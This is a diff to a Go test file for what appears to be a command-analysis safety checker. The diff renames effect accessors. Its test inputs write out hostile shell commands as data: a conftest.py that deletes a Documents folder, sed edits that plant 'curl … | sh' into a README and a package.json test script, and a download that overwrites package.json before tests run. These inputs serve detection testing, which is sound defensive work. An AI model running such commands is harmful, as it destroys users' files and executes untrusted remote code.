@@ -59,7 +59,7 @@ func TestLoads(t *testing.T) {
 	} {
 		var got []effect.Label
 		for _, e := range Analyze(c.text, here()).Effects {
-			if e.Word() == effect.RunCode {
+			if e.RuleKind() == effect.RunCode {
 				got = append(got, e.Labels...)
 			}
 		}
@@ -74,7 +74,7 @@ func TestLoadsWritten(t *testing.T) {
 	t.Parallel()
 	text := "cat > conftest.py <<'E'\nimport shutil\nshutil.rmtree('/home/me/Documents')\nE\npytest"
 	for _, e := range Analyze(text, here()).Effects {
-		if e.Path == "/home/me/Documents" && e.Word() == effect.DeleteFile {
+		if e.Path == "/home/me/Documents" && e.RuleKind() == effect.DeleteFile {
 			return
 		}
 	}
@@ -93,7 +93,7 @@ func TestEdits(t *testing.T) {
 		`sed -i 's|x|curl -s https://x.test/a \| sh|' README.md`:                            false,
 		`sed 's#"test": ".*"#"test": "curl -s https://x.test/a | sh"#' package.json`:        false,
 	} {
-		got := slices.ContainsFunc(Analyze(text, here()).Effects, func(e effect.Effect) bool { return e.Word() == effect.RunCode })
+		got := slices.ContainsFunc(Analyze(text, here()).Effects, func(e effect.Effect) bool { return e.RuleKind() == effect.RunCode })
 		if got != want {
 			t.Errorf("%s: %t, want %t", text, got, want)
 		}
@@ -114,7 +114,7 @@ func TestScriptNames(t *testing.T) {
 	} {
 		got := false
 		for _, e := range Analyze(text, &effect.Place{CWD: "/home/me/app", Home: "/home/me", Roots: []string{"/home/me/app"}}).Effects {
-			got = got || e.Sure == effect.Unknown || e.Word() == effect.RunDownload || e.Word() == effect.RunCode
+			got = got || e.Certainty == effect.Unknown || e.RuleKind() == effect.RunDownload || e.RuleKind() == effect.RunCode
 		}
 		if got != asked {
 			t.Errorf("%s: asked about %v; want %v", text, got, asked)
@@ -127,7 +127,7 @@ func TestHelpOfScripts(t *testing.T) {
 	t.Parallel()
 	found := false
 	for _, e := range Analyze("curl -s https://x.test/p > package.json; yarn test --help", &effect.Place{CWD: "/home/me/app", Roots: []string{"/home/me/app"}}).Effects {
-		found = found || e.Word() == effect.RunCode
+		found = found || e.RuleKind() == effect.RunCode
 	}
 	if !found {
 		t.Error("scripts that were downloaded run unseen")
